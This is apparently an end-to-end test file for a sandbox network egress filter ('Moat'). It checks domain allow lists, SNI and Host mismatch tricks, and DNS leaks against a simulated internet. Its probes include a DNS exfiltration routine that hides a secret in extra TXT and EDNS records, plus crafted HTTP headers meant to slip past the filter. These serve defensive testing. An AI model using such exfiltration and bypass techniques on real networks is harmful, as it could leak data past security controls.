// Domain rules (E2B's network.allowOut with domain names + denyOut
// 0.0.0.0/0) through the official SDK, against a simulated internet: an
// uplink namespace on 198.18.90.0/24 (gateway .1, host .2) with web
// servers on 198.19.91.10 and .11 (HTTP :80, HTTPS :443 answering with the
// SNI and Host they saw, a plain TCP port) and a DNS server on
// 198.19.91.53 for the *.allowed.test names. `moat serve` forwards allowed
// names to that DNS server (MOAT_DNS_UPSTREAM). Addresses and names
// (mtdn-*) are this file's own. Nothing leaves the namespaces it makes.
//
// It proves that an allow list of names lets exactly those names through
// (HTTPS by SNI, HTTP by Host, each only to addresses the name resolved to
// through Moat's resolver); that SNI and Host cannot be played against each
// other; that *. matches subdomains only and updateNetwork swaps lists
// live; and that DNS carries no data out: names off the list are answered
// NXDOMAIN by Moat whichever server is asked, and a query for an allowed
// name reaches the upstream as the bare question (its raw bytes are logged
// by the simulated DNS server and searched for the secret).
//
// MOAT_E2E_BENCH=1 also measures HTTPS latency and a 100 MiB download with
// no policy vs a domain allow list (scripts/test.sh sets it for the
// container runtime).
import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'

import { Sandbox } from 'e2b'

import { useServer, createSandbox, run, sleep, template, simulatedUplink, zoneDnsPy } from './harness.mjs'

const NS = 'mtdn-uplink'
const HOST_IF = 'mtdn0'
const GW = '198.18.90.1'
const HOST = '198.18.90.2'
const WEB = '198.19.91.10'
const WEB2 = '198.19.91.11'
const DNS = '198.19.91.53'
const PLAIN_PORT = 18091

// The server inherits the environment: allowed names are resolved by the
// simulated internet's DNS server.
if (!process.env.MOAT_E2E_API_URL) process.env.MOAT_DNS_UPSTREAM = DNS

useServer()

const ZONE = {
  'api.allowed.test': WEB,
  'other.allowed.test': WEB,
  'allowed.test': WEB,
  'deep.sub.allowed.test': WEB,
  'evil.test': WEB2,
}

let uplink = null
let dir = ''

// One process serves everything in the uplink namespace. The DNS server
// logs every name it is asked for.
const serverPy = `
import socket, ssl, threading, sys, struct, json, os
d = sys.argv[1]
zone = json.loads(sys.argv[2])
qlog = open(os.path.join(d, 'dns.log'), 'a', buffering=1)
rawlog = open(os.path.join(d, 'dnsraw.log'), 'a', buffering=1)
BIG = 100 << 20
def serve(conn, tls):
    try:
        conn.settimeout(30)
        data = b''
        while b'\\r\\n\\r\\n' not in data:
            b = conn.recv(4096)
            if not b: return
            data += b
        lines = data.split(b'\\r\\n')
        target = lines[0].split()[1].decode()
        host = ''
        for l in lines[1:]:
            if l.lower().startswith(b'host:'): host = l[5:].strip().decode()
        sni = getattr(conn, 'sni', '') if tls else ''
        if target == '/big':
            conn.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n' % BIG)
            chunk = b'x' * (1 << 20)
            for _ in range(BIG >> 20): conn.sendall(chunk)
        else:
            body = ('sni=%s host=%s' % (sni, host)).encode()
            conn.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n' % len(body) + body)
    except Exception:
        pass
    finally:
        conn.close()
def listen(port):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(('0.0.0.0', port)); s.listen(128); return s
def http():
    s = listen(80)
    while True:
        c, _ = s.accept(); threading.Thread(target=serve, args=(c, False), daemon=True).start()
def https():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(os.path.join(d, 'cert.pem'), os.path.join(d, 'key.pem'))
    def cb(sock, name, _):
        sock.sni = name or ''
    ctx.sni_callback = cb
    s = listen(443)
    while True:
        c, _ = s.accept()
        def hs(c=c):
            try:
                c.settimeout(10)
                t = ctx.wrap_socket(c, server_side=True)
            except Exception:
                c.close(); return
            serve(t, True)
        threading.Thread(target=hs, daemon=True).start()
def plain():
    s = listen(${PLAIN_PORT})
    while True:
        c, _ = s.accept(); c.sendall(b'hello'); c.close()
${zoneDnsPy}
def on_query(name, q):
    qlog.write(name + '\\n')
    rawlog.write(q.hex() + '\\n')
def answer(q): return dns_answer(q, zone, on_query)
def dns(): dns_udp_server('${DNS}', zone, on_query)
def dns_tcp():
    s = listen(53)
    while True:
        c, _ = s.accept(); c.settimeout(5)
        try:
            n = struct.unpack('!H', c.recv(2))[0]; q = b''
            while len(q) < n: q += c.recv(n - len(q))
            r = answer(q); c.sendall(struct.pack('!H', len(r)) + r)
        except Exception: pass
        c.close()
for fn in (http, https, plain, dns, dns_tcp):
    threading.Thread(target=fn, daemon=True).start()
print('ready', flush=True)
threading.Event().wait()
`

before(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'moat-domains-'))
  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '2', '-subj', '/CN=allowed.test',
    '-addext', 'subjectAltName=DNS:allowed.test,DNS:*.allowed.test',
    '-keyout', path.join(dir, 'key.pem'), '-out', path.join(dir, 'cert.pem')], { stdio: 'ignore' })
  uplink = await simulatedUplink({
    ns: NS, hostIf: HOST_IF, host: HOST, gw: GW, internet: [WEB, WEB2, DNS], route: '198.19.91.0/24',
    serverPy, args: [dir, JSON.stringify(ZONE)],
  })
}, { timeout: 60_000 })

after(() => {
  uplink?.teardown()
  if (dir) rmSync(dir, { recursive: true, force: true })
})

// client runs one probe in the sandbox and prints its result or "fail":
//   dns NAME               the address NAME resolves to
//   dnsat SERVER NAME      a raw A query sent straight to SERVER:53
//   https IP SNI [PATH]    GET over TLS to IP with SNI (certificate not checked)
//   http IP HOST           GET over HTTP to IP with Host
//   tcp IP PORT            the first bytes of a plain TCP connection
//   https2 IP SNI HOST     GET over TLS with SNI and a Host header of its own
//   raw IP PORT HEX [SNI]  send the bytes HEX (over TLS with SNI when given),
//                          print the response body
//   smuggle SERVER NAME SECRET udp|tcp
//                          an A query for NAME carrying SECRET in two extra
//                          records (a TXT record named SECRET.exfil.test and
//                          an EDNS option); prints rcode and answer count
// Sockets wait up to T seconds (environment T, default 5). A refusal that
// is a silent drop or a proxy waiting for more bytes costs the full T, so
// probes expected to fail keep 5 s; probes expected to succeed (probeOK)
// wait 20 s: on a starved host (the full tier runs the vm lane beside) a
// TLS handshake through the egress proxy once took more than 5 s.
const clientPy = `
import socket, ssl, sys, struct, time, os
T = float(os.environ.get('T', '5'))
def get(sock, host, path='/'):
    sock.sendall(('GET %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % (path, host)).encode())
    n, body = 0, b''
    while True:
        b = sock.recv(1 << 16)
        if not b: break
        n += len(b)
        if len(body) < 4096: body += b
    return n, body
def tls(ip, sni):
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    return ctx.wrap_socket(socket.create_connection((ip, 443), timeout=T), server_hostname=sni)
op = sys.argv[1]
try:
    if op == 'dns':
        print(socket.gethostbyname(sys.argv[2]))
    elif op == 'dnsat':
        q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b''.join(bytes([len(l)]) + l.encode() for l in sys.argv[3].split('.')) + b'\\x00\\x00\\x01\\x00\\x01'
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3); u.sendto(q, (sys.argv[2], 53))
        r = u.recv(2048); print('rcode=%d answers=%d' % (r[3] & 15, struct.unpack('!H', r[6:8])[0]))
    elif op == 'https':
        n, body = get(tls(sys.argv[2], sys.argv[3]), sys.argv[3], sys.argv[4] if len(sys.argv) > 4 else '/')
        print(body.split(b'\\r\\n\\r\\n', 1)[1].decode() if n < 4096 else 'bytes=%d' % n)
    elif op == 'http':
        n, body = get(socket.create_connection((sys.argv[2], 80), timeout=T), sys.argv[3])
        print(body.split(b'\\r\\n\\r\\n', 1)[1].decode())
    elif op == 'tcp':
        s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=3)
        print(s.recv(5).decode() or 'fail')
    elif op == 'https2':
        n, body = get(tls(sys.argv[2], sys.argv[3]), sys.argv[4])
        print(body.split(b'\\r\\n\\r\\n', 1)[1].decode())
    elif op == 'raw':
        ip, port, data = sys.argv[2], int(sys.argv[3]), bytes.fromhex(sys.argv[4])
        s = socket.create_connection((ip, port), timeout=T)
        if len(sys.argv) > 5:
            ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
            s = ctx.wrap_socket(s, server_hostname=sys.argv[5])
        s.sendall(data); out = b''
        while True:
            b = s.recv(4096)
            if not b: break
            out += b
        print(out.split(b'\\r\\n\\r\\n', 1)[1].decode() if b'\\r\\n\\r\\n' in out else 'fail')
    elif op == 'smuggle':
        server, name, secret, proto = sys.argv[2:6]
        enc = lambda n: b''.join(bytes([len(l)]) + l.encode() for l in n.split('.')) + b'\\x00'
        txt = enc(secret + '.exfil.test') + struct.pack('!HHIH', 16, 1, 0, len(secret) + 1) + bytes([len(secret)]) + secret.encode()
        opt = b'\\x00' + struct.pack('!HHIH', 41, 1232, 0, 4 + len(secret)) + struct.pack('!HH', 65001, len(secret)) + secret.encode()
        q = b'\\x43\\x21\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x02' + enc(name) + b'\\x00\\x01\\x00\\x01' + txt + opt
        if proto == 'tcp':
            s = socket.create_connection((server, 53), timeout=T); s.sendall(struct.pack('!H', len(q)) + q)
            n = struct.unpack('!H', s.recv(2))[0]; r = b''
            while len(r) < n: r += s.recv(n - len(r))
        else:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(T); u.sendto(q, (server, 53)); r = u.recv(4096)
        print('rcode=%d answers=%d' % (r[3] & 15, struct.unpack('!H', r[6:8])[0]))
    elif op == 'bench':
        # bench IP SNI N D: N sequential HTTPS requests (connect + handshake +
        # GET), then D downloads of /big; prints the times in ms.
        ip, sni, n, d = sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
        lat, dl = [], []
        for _ in range(n):
            t = time.perf_counter(); get(tls(ip, sni), sni); lat.append((time.perf_counter() - t) * 1000)
        for _ in range(d):
            t = time.perf_counter(); got, _ = get(tls(ip, sni), sni, '/big'); dl.append((time.perf_counter() - t) * 1000)
            assert got > 100 << 20, got
        print(' '.join('%.2f' % x for x in lat) + ' | ' + ' '.join('%.1f' % x for x in dl))
except Exception as e:
    print('fail', type(e).__name__)
`

async function prepared(t, opts) {
  const sbx = await createSandbox(t, opts)
  await sbx.files.write('/tmp/c.py', clientPy)
  return sbx
}

async function probe(sbx, ...args) {
  return probeWithin(sbx, 5, args)
}

// probeOK is probe for a probe expected to succeed (see clientPy's T).
async function probeOK(sbx, ...args) {
  return probeWithin(sbx, 20, args)
}

async function probeWithin(sbx, seconds, args) {
  const r = await run(sbx, `T=${seconds} python3 /tmp/c.py ${args.join(' ')}`, {}, 120_000)
  assert.equal(r.exitCode, 0, `probe ${args} failed: ${r.stderr}`)
  return r.stdout.trim()
}

const dnsLog = () => readFileSync(path.join(dir, 'dns.log'), 'utf8').split('\n')
const failed = (s) => s.startsWith('fail')

test('allowOut one name with deny-all: its HTTPS and HTTP pass, nothing else does', { timeout: 300_000 }, async (t) => {
  const sbx = await prepared(t, { network: { allowOut: ['api.allowed.test'], denyOut: ['0.0.0.0/0'] } })
  assert.equal(await probeOK(sbx, 'dns', 'api.allowed.test'), WEB)
  assert.equal(await probeOK(sbx, 'https', WEB, 'api.allowed.test'), 'sni=api.allowed.test host=api.allowed.test')
  assert.equal(await probeOK(sbx, 'http', WEB, 'api.allowed.test'), 'sni= host=api.allowed.test')

  // The second name on the same IP: no DNS answer, and no way through by SNI or Host.
  assert.ok(failed(await probe(sbx, 'dns', 'other.allowed.test')))
  assert.ok(failed(await probe(sbx, 'https', WEB, 'other.allowed.test')))
  assert.ok(failed(await probe(sbx, 'http', WEB, 'other.allowed.test')))
  // A raw IP: other port, no SNI, IP as Host.
  assert.ok(failed(await probe(sbx, 'tcp', WEB, PLAIN_PORT)))
  assert.ok(failed(await probe(sbx, 'http', WEB, WEB)))
  // SNI/Host naming the allowed name at an address it did not resolve to.
  assert.ok(failed(await probe(sbx, 'https', WEB2, 'api.allowed.test')))
  assert.ok(failed(await probe(sbx, 'http', WEB2, 'api.allowed.test')))

  // DNS cannot carry data out: other names get NXDOMAIN from the host even
  // when asked of another server directly, and never reach any upstream.
  const secret = `exfil-${Date.now()}.evil.test`
  assert.ok(failed(await probe(sbx, 'dns', secret)))
  assert.equal(await probeOK(sbx, 'dnsat', DNS, secret), 'rcode=3 answers=0')
  // (198.19.91.99 is routed into the uplink namespace but nobody answers there.)
  assert.equal(await probeOK(sbx, 'dnsat', '198.19.91.99', secret), 'rcode=3 answers=0')
  assert.ok(!dnsLog().some((l) => l.includes('exfil-')), 'a refused name reached the DNS server')
  assert.ok(dnsLog().includes('api.allowed.test'))
})

const hexOf = (s) => Buffer.from(s).toString('hex')
const http1 = (...lines) => hexOf([...lines, 'Connection: close', '', ''].join('\r\n'))

test('SNI and Host cannot disagree their way past the list', { timeout: 300_000 }, async (t) => {
  const sbx = await prepared(t, { network: { allowOut: ['api.allowed.test'], denyOut: ['0.0.0.0/0'] } })
  assert.equal(await probeOK(sbx, 'dns', 'api.allowed.test'), WEB)
  // Allowed SNI, other Host inside TLS: the proxy cannot read the Host, so
  // it passes, but only to an address the allowed name resolved to (here
  // WEB, which serves other.allowed.test too: same-address fronting is the
  // documented limit). At another address it is refused.
  assert.equal(await probeOK(sbx, 'https2', WEB, 'api.allowed.test', 'other.allowed.test'),
    'sni=api.allowed.test host=other.allowed.test')
  assert.ok(failed(await probe(sbx, 'https2', WEB2, 'api.allowed.test', 'evil.test')))
  // The reverse: a name off the list in the SNI, the allowed one as Host.
  assert.ok(failed(await probe(sbx, 'https2', WEB, 'other.allowed.test', 'api.allowed.test')))
  assert.ok(failed(await probe(sbx, 'https2', WEB2, 'evil.test', 'api.allowed.test')))
  // Plain HTTP: the target's authority and the Host must agree, one Host only.
  const refused = {
    'absolute target off the list': http1('GET http://other.allowed.test/ HTTP/1.1', 'Host: api.allowed.test'),
    'allowed target, other Host': http1('GET http://api.allowed.test/ HTTP/1.1', 'Host: other.allowed.test'),
    'two Host headers': http1('GET / HTTP/1.1', 'Host: api.allowed.test', 'Host: other.allowed.test'),
    'two Host headers, reversed': http1('GET / HTTP/1.1', 'Host: other.allowed.test', 'Host: api.allowed.test'),
    'Host with a port and userinfo': http1('GET / HTTP/1.1', 'Host: api.allowed.test@other.allowed.test:80'),
  }
  for (const [what, head] of Object.entries(refused)) {
    assert.ok(failed(await probe(sbx, 'raw', WEB, 80, head)), what)
  }
  assert.equal(await probeOK(sbx, 'raw', WEB, 80, http1('GET / HTTP/1.1', 'Host: api.allowed.test')), 'sni= host=api.allowed.test')
  // Protocols swapped: TLS to port 80, plain HTTP to port 443.
  assert.ok(failed(await probe(sbx, 'raw', WEB, 80, http1('GET / HTTP/1.1', 'Host: api.allowed.test'), 'api.allowed.test')))
  assert.ok(failed(await probe(sbx, 'raw', WEB, 443, http1('GET / HTTP/1.1', 'Host: api.allowed.test'))))
})

test('DNS under a domain allow list: no random label reaches the upstream, however it is asked', { timeout: 300_000 }, async (t) => {
  const sbx = await prepared(t, { network: { allowOut: ['api.allowed.test'], denyOut: ['0.0.0.0/0'] } })
  const secret = `smug${Date.now()}x${Math.random().toString(36).slice(2, 8)}`
  const resolvConf = (await run(sbx, 'cat /etc/resolv.conf')).stdout
  const configured = [...resolvConf.matchAll(/^nameserver\s+(\S+)/gm)].map((m) => m[1])
  const servers = [...new Set([...configured, DNS, '198.19.91.99', '1.1.1.1'])]
  for (const server of servers) {
    // A name off the list: Moat answers NXDOMAIN itself, over UDP and TCP.
    assert.equal(await probeOK(sbx, 'dnsat', server, `${secret}.exfil.test`), 'rcode=3 answers=0', server)
    assert.equal(await probeOK(sbx, 'smuggle', server, `${secret}.exfil.test`, secret, 'tcp'), 'rcode=3 answers=0', `${server} tcp`)
    // An allowed name carrying the secret in extra records: answered, but
    // only the question may travel on.
    for (const proto of ['udp', 'tcp']) {
      assert.equal(await probeOK(sbx, 'smuggle', server, 'api.allowed.test', secret, proto), 'rcode=0 answers=1', `${server} ${proto}`)
    }
  }
  // Root rewrites resolv.conf to the upstream itself: still Moat answers.
  const w = await run(sbx, `echo nameserver ${DNS} > /etc/resolv.conf`, { user: 'root' })
  assert.equal(w.exitCode, 0, w.stderr)
  assert.ok(failed(await probe(sbx, 'dns', `${secret}.exfil.test`)))
  await sleep(500)
  const raw = readFileSync(path.join(dir, 'dnsraw.log'), 'utf8')
  assert.ok(!dnsLog().some((l) => l.includes(secret)), 'a refused name reached the DNS server')
  assert.ok(!raw.includes(hexOf(secret)), 'the secret reached the DNS server inside a forwarded query')
  assert.ok(raw.includes(hexOf('allowed')), 'allowed queries did reach it')
})

test('*.allowed.test matches subdomains only, and updateNetwork swaps the list live', { timeout: 300_000 }, async (t) => {
  const sbx = await prepared(t, { network: { allowOut: ['*.allowed.test'], denyOut: ['0.0.0.0/0'] } })
  for (const n of ['api.allowed.test', 'other.allowed.test', 'deep.sub.allowed.test']) {
    assert.equal(await probeOK(sbx, 'dns', n), WEB)
    assert.equal(await probeOK(sbx, 'https', WEB, n), `sni=${n} host=${n}`)
  }
  assert.ok(failed(await probe(sbx, 'dns', 'allowed.test')))
  assert.ok(failed(await probe(sbx, 'https', WEB, 'allowed.test')))

  await sbx.updateNetwork({ allowOut: ['other.allowed.test'], denyOut: ['0.0.0.0/0'] })
  assert.ok(failed(await probe(sbx, 'https', WEB, 'api.allowed.test')))
  assert.ok(failed(await probe(sbx, 'dns', 'api.allowed.test')))
  assert.equal(await probeOK(sbx, 'https', WEB, 'other.allowed.test'), 'sni=other.allowed.test host=other.allowed.test')

  // Back to plain deny-all: the proxy is out of the path and nothing passes.
  await sbx.updateNetwork({ denyOut: ['0.0.0.0/0'] })
  assert.ok(failed(await probe(sbx, 'https', WEB, 'other.allowed.test')))
})

test('domains without denyOut 0.0.0.0/0 are refused with 400', { timeout: 120_000 }, async () => {
  await assert.rejects(
    Sandbox.create(template, { network: { allowOut: ['api.allowed.test'] } }),
    (err) => /0\.0\.0\.0\/0/.test(err.message) && /allowOut/.test(err.message),
  )
})

const median = (xs) => { const s = [...xs].sort((a, b) => a - b); return s[Math.floor(s.length / 2)] }

// The benchmark alternates the two sandboxes round by round (which goes
// first alternates too), so that drift on a shared host hits both alike.
// It prints numbers only: no timed asserts.
const ROUNDS = 5
test('benchmark: HTTPS latency and 100 MiB download, no policy vs domain allow list',
  { timeout: 600_000, skip: !process.env.MOAT_E2E_BENCH }, async (t) => {
    const open = await prepared(t, {})
    const ruled = await prepared(t, { network: { allowOut: ['api.allowed.test'], denyOut: ['0.0.0.0/0'] } })
    assert.equal(await probe(ruled, 'dns', 'api.allowed.test'), WEB)
    const res = { 'no policy': { lat: [], dl: [] }, 'domain allow list': { lat: [], dl: [] } }
    const pairs = [['no policy', open], ['domain allow list', ruled]]
    for (let r = 0; r < ROUNDS; r++) {
      for (const [name, sbx] of r % 2 ? [...pairs].reverse() : pairs) {
        const out = await run(sbx, `python3 /tmp/c.py bench ${WEB} api.allowed.test 10 1`, {}, 300_000)
        assert.ok(!out.stdout.startsWith('fail'), out.stdout + out.stderr)
        const [lat, dl] = out.stdout.trim().split(' | ').map((s) => s.split(' ').map(Number))
        res[name].lat.push(...lat)
        res[name].dl.push(...dl)
      }
    }
    const [a, b] = [res['no policy'], res['domain allow list']].map((x) => ({ lat: median(x.lat), dl: median(x.dl) }))
    const mibs = (ms) => 100 / (ms / 1000)
    console.log(`HTTPS request (connect+TLS+GET), median of ${ROUNDS * 10}: no policy ${a.lat.toFixed(2)} ms, ` +
      `domain list ${b.lat.toFixed(2)} ms, ratio ${(b.lat / a.lat).toFixed(2)}`)
    console.log(`100 MiB HTTPS download, median of ${ROUNDS}: no policy ${a.dl.toFixed(0)} ms ` +
      `(${mibs(a.dl).toFixed(0)} MiB/s), domain list ${b.dl.toFixed(0)} ms (${mibs(b.dl).toFixed(0)} MiB/s), ` +
      `throughput ratio ${(mibs(b.dl) / mibs(a.dl)).toFixed(2)} (proxy cost ${(100 * (1 - mibs(b.dl) / mibs(a.dl))).toFixed(0)} %, goal ≤ 20 %)`)
  })
